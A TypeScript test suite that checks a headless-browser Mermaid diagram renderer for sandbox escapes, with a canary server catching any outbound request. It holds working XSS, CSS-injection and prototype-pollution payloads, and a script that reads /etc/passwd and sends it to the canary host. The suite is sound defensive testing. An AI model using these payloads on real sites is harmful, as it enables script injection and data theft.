import type { Page } from "puppeteer-core";
import { afterAll, beforeEach, describe, expect, it } from "vitest";
import { startCanary } from "../../../security/canary.ts";
import { fenced, startPrinter } from "./printed-diagrams.ts";

const { diagrams, rendered, stop } = startPrinter();
const canary = await startCanary();
const { heard, url: address } = canary;

beforeEach(() => {
  heard.length = 0;
});
afterAll(() => Promise.all([stop(), canary.stop()]));

/** Lets a page ask for images, one after the other, and be refused them: what it asked for before has had its turn by then. */
async function laterRequests(page: Page): Promise<void> {
  const ask = `(async () => { for (let turn = 0; turn < 20; turn++) await new Promise((done) => {
    const image = new Image(); image.onload = image.onerror = done; image.src = "https://refused.example/" + turn; }); })()`;
  await page.evaluate(ask).catch(() => undefined);
}

describe("a hostile diagram", () => {
  const loose =
    '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "secure": []}}%%';
  const rows: readonly [name: string, source: (address: string) => string][] = [
    [
      "with markup in its labels",
      (a) =>
        `flowchart LR\n A["<img src='${a}/label' onerror='fetch(\\"${a}/onerror\\")'><script>fetch('${a}/script')</script>"]`,
    ],
    [
      "that loosens its own security",
      (a) =>
        `${loose}\nflowchart LR\n A["<img src='${a}/loose' onerror=fetch('${a}/loose2')><iframe src='file:///etc/passwd'></iframe>"]`,
    ],
    [
      "with links that run",
      (a) =>
        `flowchart LR\n A --> B\n click A href "javascript:fetch('${a}/click')"\n click B call fetch("${a}/call")`,
    ],
    [
      "with a style sheet",
      (a) =>
        `%%{init: {"themeCSS": "@import url(${a}/import); * { background: url(${a}/theme); }"}}%%\nflowchart LR\n A`,
    ],
    [
      "with a font from the web",
      (a) =>
        `%%{init: {"fontFamily": "x; } @font-face { font-family: y; src: url(${a}/font) }", "themeVariables": {"fontFamily": "y; } * { background: url(${a}/var) }"}}}%%\nflowchart LR\n A`,
    ],
    [
      "with styles that load",
      (a) =>
        `flowchart LR\n A\n style A fill:url(${a}/fill)\n classDef b background:url(${a}/class)\n class A b`,
    ],
    [
      "with an image",
      (a) =>
        `flowchart LR\n A@{ img: "${a}/image.png", label: "x", w: 60, h: 60 }\n B@{ img: "file:///etc/passwd", w: 60, h: 60 }`,
    ],
    [
      "with a sequence's links",
      (a) =>
        `sequenceDiagram\n participant A\n links A: {"x": "javascript:fetch('${a}/links')"}\n A->>A: <img src=${a}/message>`,
    ],
    [
      "with front matter",
      (a) =>
        `---\nconfig:\n  securityLevel: loose\n  themeCSS: "@import url(${a}/front)"\n  dompurifyConfig: {ADD_TAGS: [script, iframe]}\n---\nflowchart LR\n A["<iframe src='${a}/frame'></iframe>"]`,
    ],
    [
      "with a prototype",
      () =>
        '%%{init: {"__proto__": {"securityLevel": "loose"}, "constructor": {"prototype": {"x": 1}}}}%%\nflowchart LR\n A',
    ],
  ];
  it.each(rows)("with %s runs nothing, reads nothing, reaches nothing", async (_name, source) => {
    const { text, links } = await rendered(`before\n\n${fenced(source(address))}\n\nafter`);
    expect(text.join(" ")).toMatch(/before.*after/);
    expect(text.join(" ")).not.toContain("root:");
    expect(links).toEqual([]);
    expect(heard).toEqual([]);
  });
});

describe("a script that got into the diagrams' page", () => {
  // As strings, so that nothing rewrites them on the way into the page.
  const rows: readonly [name: string, script: string][] = [
    ["fetch", `fetch("{a}/fetch")`],
    ["a fetch of a file", `fetch("file:///etc/passwd").then((r) => r.text()).then((t) => fetch("{a}/" + t))`],
    [
      "an image",
      `new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = "{a}/image"; })`,
    ],
    ["a beacon", `navigator.sendBeacon("{a}/beacon")`],
    [
      "a socket",
      `new Promise((done) => { const s = new WebSocket("{a}".replace("http", "ws")); s.onerror = s.onopen = done; })`,
    ],
    ["a module", `import("{a}/module.js")`],
    ["a worker", `new Worker("data:text/javascript,fetch('{a}/worker')")`],
    [
      "a frame",
      `document.body.append(Object.assign(document.createElement("iframe"), { src: "{a}/frame" }))`,
    ],
    [
      "a script of its own",
      `document.body.append(Object.assign(document.createElement("script"), { textContent: "fetch('{a}/inline')" }))`,
    ],
    [
      "a prefetch",
      `document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "{a}/prefetch" }))`,
    ],
    ["another page", `open("{a}/open")`],
    [
      "a form",
      `(() => { const f = document.createElement("form"); f.action = "{a}/form"; document.body.append(f); f.submit(); })()`,
    ],
    ["a way out", `location.href = "{a}/navigate"`],
    [
      "a call",
      `(async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + "{a}".slice(7) }] }); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()); })()`,
    ],
  ];
  it.each(rows)("cannot reach anything by %s", async (_name, script) => {
    await diagrams.withPage(async (page: Page) => {
      await page.evaluate(script.replaceAll("{a}", address)).catch(() => undefined);
      await laterRequests(page);
    });
    // Whatever had left by then has arrived before this.
    await fetch(`${address}/afterwards`);
    expect(heard).toEqual(["GET /afterwards"]);
  });

  it("finds no trace of the last document, and cannot leave one", async () => {
    const left = await diagrams.withPage((page) =>
      page.evaluate(
        `(() => { globalThis.left = "here"; try { localStorage.x = 1; return "stored"; } catch { return "nothing stored"; } })()`,
      ),
    );
    expect(left).toBe("nothing stored");
    expect(await diagrams.withPage((page) => page.evaluate("typeof globalThis.left"))).toBe("undefined");
  });

  it("cannot evaluate a text", async () => {
    const answer = await diagrams.withPage((page) =>
      page.evaluate(
        `new Promise((done) => { setTimeout("globalThis.ran = 1", 0); setTimeout(() => done(globalThis.ran ?? "blocked"), 50); })`,
      ),
    );
    expect(answer).toBe("blocked");
  });
});
